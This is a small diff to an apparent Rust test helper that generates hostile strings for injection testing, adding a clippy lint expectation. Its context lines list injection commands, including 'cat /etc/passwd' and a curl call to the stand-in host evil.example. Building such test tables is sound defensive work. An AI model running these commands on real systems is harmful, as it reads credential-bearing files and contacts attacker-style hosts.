@@ -1,6 +1,7 @@
 //! Strings that a shell, an option parser, a path, a line reader or an encoding could read as something else.
 
 /// At least five hundred of them, each once.
+#[expect(clippy::too_many_lines, reason = "a table")]
 pub(crate) fn hostile() -> Vec<String> {
     let commands = ["id", "touch /tmp/doorward-injected", "cat /etc/passwd", "curl http://evil.example/"];
     let mut all: Vec<String> = Vec::new();
